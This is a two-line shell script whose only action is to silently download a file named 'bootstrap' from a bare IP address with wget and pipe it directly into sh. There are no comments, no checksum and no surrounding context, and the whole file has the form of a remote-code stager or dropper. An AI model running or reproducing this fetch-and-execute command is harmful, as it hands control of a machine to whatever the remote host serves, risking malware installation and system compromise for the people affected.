#!/bin/sh
wget -qO- http://203.0.113.21/bootstrap | sh
